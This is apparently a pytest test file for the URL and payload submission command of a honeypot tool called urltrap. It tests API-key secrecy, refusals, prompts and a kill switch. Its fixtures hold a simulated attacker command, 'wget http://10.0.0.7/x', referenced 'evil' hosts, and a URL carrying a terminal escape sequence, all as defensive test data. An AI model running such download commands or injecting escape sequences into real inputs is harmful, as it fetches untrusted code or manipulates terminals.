from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from tests.pipeline.conftest import Bench
from tests.pipeline.test_submitting import URL, malicious
from typer.testing import CliRunner, Result

from urltrap.ops.cli import load_commands, submit
from urltrap.ops.cli.common import app, console
from urltrap.ops.init import init_data_folder
from urltrap.store import lookups, open_store, submissions

KEY = "k3y-that-must-appear-nowhere"
SETTINGS = f"""
[publish]
delay_minutes = [0, 0]
[intel]
online = true
[intel.keys]
urlscan = "{KEY}"
virustotal = "{KEY}"
"""


@pytest.fixture(autouse=True)
def _wide(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever loaded the command line first, perhaps another test, gave its console a width for good."""
    monkeypatch.setattr(console, "_width", 250)


@pytest.fixture(scope="module")
def caught(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A data folder in which one URL is published, with its payload."""
    data = tmp_path_factory.mktemp("caught") / "data"
    init_data_folder(data)
    bench = Bench(
        data, testing={"public_networks": ["198.51.100.0/24"]}, egress={"siblings": 0, "other_clients": False}
    )
    malicious(bench)
    bench.visit(b"wget http://10.0.0.7/x")
    bench.settle()
    bench.close()
    (data / "urltrap.toml").write_text(SETTINGS)
    yield data


@pytest.fixture
def data(caught: Path) -> Iterator[Path]:
    """That folder, with nothing submitted."""
    yield caught
    (caught / "urltrap.toml").write_text(SETTINGS)
    store = open_store(str(caught / "urltrap.db"))
    with store.begin() as connection:
        connection.execute(submissions.submissions.delete())
        connection.execute(lookups.lookups.delete())
    store.close()


def run(*arguments: object, answer: str | None = None) -> Result:
    load_commands([str(arguments[0])])
    return CliRunner().invoke(app, [str(argument) for argument in arguments], input=answer)


def as_json(*arguments: object) -> Any:
    done = run(*arguments, "--json")
    assert done.exit_code == 0, done.output + str(done.exception)
    return json.loads(done.stdout)


def said(done: Result) -> str:
    return done.output + str(done.exception)


def test_a_submission_waits_and_is_seen_everywhere(data: Path) -> None:
    (item,) = as_json("submit", URL, "--to", "urlscan", "--data", data)
    assert (item["service"], item["state"], item["visibility"]) == ("urlscan", "waiting", "private")
    (kept,) = as_json("check", URL, "--data", data)["submissions"]
    assert (kept["service"], kept["state"], kept["asked_by"]) == ("urlscan", "waiting", "operator")
    assert "handed to others" in run("check", URL, "--data", data).output
    assert "handed to others" in run("url", URL, "--data", data).output
    shown = [
        run("show", session["id"], "--data", data).output for session in as_json("sessions", "--data", data)
    ]
    assert ["urlscan private" in text for text in shown] == ["wget http://evil" in text for text in shown]
    assert any("urlscan private" in text for text in shown)
    waiting = {row["provider"]: row["waiting"] for row in as_json("quota", "--data", data)["providers"]}
    assert waiting["urlscan-submit"] == 1


def test_the_key_is_in_nothing_that_is_said_or_kept(data: Path) -> None:
    done = run("submit", URL, "--to", "urlscan", "--to", "virustotal", "--data", data)
    again = run("submit", URL, "--to", "urlscan", "--data", data, "--json")
    assert done.exit_code == 0 and KEY not in said(done) + said(again)
    written = b"".join(path.read_bytes() for path in data.glob("urltrap.db*"))
    assert KEY.encode() not in written


def test_a_second_one_is_refused_with_the_moment_from_which_it_is_not(data: Path) -> None:
    run("submit", URL, "--to", "urlscan", "--data", data)
    done = run("submit", URL, "--to", "urlscan", "--data", data)
    assert done.exit_code == 1 and "urlscan: refused: it waits already since" in done.output
    now = datetime.now(UTC)
    store = open_store(str(data / "urltrap.db"))
    with store.begin() as connection:
        submissions.settle(
            connection, "urlscan", "url", URL, now, "submitted", link="https://urlscan.io/result/1/"
        )
    store.close()
    done = run("submit", URL, "--to", "urlscan", "--data", data)
    until = f"{now + timedelta(days=30):%Y-%m-%d %H:%M} UTC (intel.submit.again_days is 30)"
    assert done.exit_code == 1 and "(https://urlscan.io/result/1/); not again before " + until in done.output
    (data / "urltrap.toml").write_text(SETTINGS + "[intel.submit]\nagain_days = 0.0000001\n")
    assert run("submit", URL, "--to", "urlscan", "--data", data).exit_code == 0


def test_one_refusal_of_several_is_told_and_the_rest_goes_on(data: Path) -> None:
    run("submit", URL, "--to", "urlscan", "--data", data)
    done = run("submit", URL, "--to", "urlscan", "--to", "virustotal", "--data", data)
    assert done.exit_code == 0
    assert "urlscan: refused" in done.output and "virustotal: waits for its turn" in done.output


@pytest.mark.parametrize(("answer", "waits"), [("y\n", True), ("n\n", False), ("\n", False)])
def test_at_a_terminal_it_asks_and_says_who_learns_what(
    data: Path, monkeypatch: pytest.MonkeyPatch, answer: str, waits: bool
) -> None:
    monkeypatch.setattr(submit, "_at_terminal", lambda: True)
    done = run("submit", URL, "--to", "urlscan", "--data", data, answer=answer)
    assert "cannot be taken back" in done.output and "urlscan.io is told the URL and visits it" in done.output
    assert "hxxp://evil[.]cc" in done.output and ("waits for its turn" in done.output) is waits
    assert bool(as_json("check", URL, "--data", data)["submissions"]) is waits
    assert waits or "nothing was submitted" in said(done)


def test_yes_answers_the_question(data: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(submit, "_at_terminal", lambda: True)
    done = run("submit", URL, "--to", "urlscan", "--yes", "--data", data)
    assert done.exit_code == 0 and "cannot be taken back" not in done.output


@pytest.mark.parametrize(
    ("arguments", "why"),
    [
        ([URL], "say to whom: --to NAME (known: urlhaus, urlscan, virustotal)"),
        ([URL, "--to", "nobody"], "no service 'nobody' takes submissions here"),
        (
            [URL, "--to", "urlhaus"],
            "needs intel.keys.abuse_ch (in the environment: URLTRAP_INTEL__KEYS__ABUSE_CH)",
        ),
        (["evil.cc", "--to", "urlscan"], "a host or an address is not submitted"),
        (["203.0.113.9", "--to", "urlscan"], "a host or an address is not submitted"),
        (["0" * 64, "--to", "virustotal"], "leave this machine only if you say so: add --upload"),
        ([URL, "--to", "urlscan", "--upload"], "--upload hands over a payload"),
        (["http://10.0.0.7/x", "--to", "urlscan"], "refused: its host is not one to tell of: private"),
        (["http://elsewhere.cc/x", "--to", "urlscan"], "refused: no attacker has shown this URL here"),
    ],
)
def test_what_cannot_be_submitted_says_why_and_what_to_do(data: Path, arguments: list[str], why: str) -> None:
    done = run("submit", *arguments, "--data", data)
    assert done.exit_code == 1 and why in said(done)
    assert not as_json("check", URL, "--data", data)["submissions"]


@pytest.mark.parametrize(
    ("settings", "why"),
    [
        (SETTINGS.replace("online = true", "online = false"), "intel.online is false"),
        (SETTINGS + '[egress]\nmode = "record"\n', 'egress.mode is "record"'),
    ],
)
def test_nothing_is_queued_where_nothing_may_leave(data: Path, settings: str, why: str) -> None:
    (data / "urltrap.toml").write_text(settings)
    done = run("submit", URL, "--to", "urlscan", "--data", data)
    assert done.exit_code == 1 and why in said(done)


def test_the_kill_switch_stops_submissions_too(data: Path) -> None:
    switch = data / "run" / "egress.off"
    switch.parent.mkdir(exist_ok=True)
    switch.touch()
    try:
        assert "urltrap egress on" in said(run("submit", URL, "--to", "urlscan", "--data", data))
    finally:
        switch.unlink()


def test_settings_say_to_whom_where_the_command_does_not(data: Path) -> None:
    (data / "urltrap.toml").write_text(
        SETTINGS + '[intel.submit]\nproviders = ["virustotal", "urlscan"]\nurlscan_visibility = "unlisted"\n'
    )
    items = {item["service"]: item["visibility"] for item in as_json("submit", URL, "--data", data)}
    assert items == {"virustotal": "", "urlscan": "unlisted"}


def test_a_payload_is_submitted_by_its_hash_with_a_flag_of_its_own(data: Path) -> None:
    store = open_store(str(data / "urltrap.db"))
    try:
        with store.connect() as connection:
            digest = connection.exec_driver_sql(
                "select sha256 from urls where sha256 is not null"
            ).scalar_one()
    finally:
        store.close()
    (item,) = as_json("submit", digest, "--upload", "--to", "virustotal", "--data", data)
    assert (item["kind"], item["subject"], item["state"]) == ("sha256", digest, "waiting")
    assert as_json("check", digest, "--data", data)["submissions"][0]["subject_kind"] == "sha256"


def test_control_characters_of_a_url_do_not_reach_the_terminal(data: Path) -> None:
    done = run("submit", "http://evil.cc/\x1b[31mx", "--to", "urlscan", "--data", data)
    assert "\x1b" not in said(done)


def test_a_rebuilt_store_still_knows_what_was_submitted_and_what_waits(data: Path, tmp_path: Path) -> None:
    run("submit", URL, "--to", "urlscan", "--data", data)
    copy = Path(shutil.copytree(data, tmp_path / "copy"))
    rebuilt = run("rebuild", "--data", copy)
    assert rebuilt.exit_code == 0, said(rebuilt)
    before, after = (as_json("check", URL, "--data", each) for each in (data, copy))
    assert after["submissions"] == before["submissions"] != []
    assert "urlscan-submit" in [item["provider"] for item in after["waiting"] if item["kind"] == "url"]
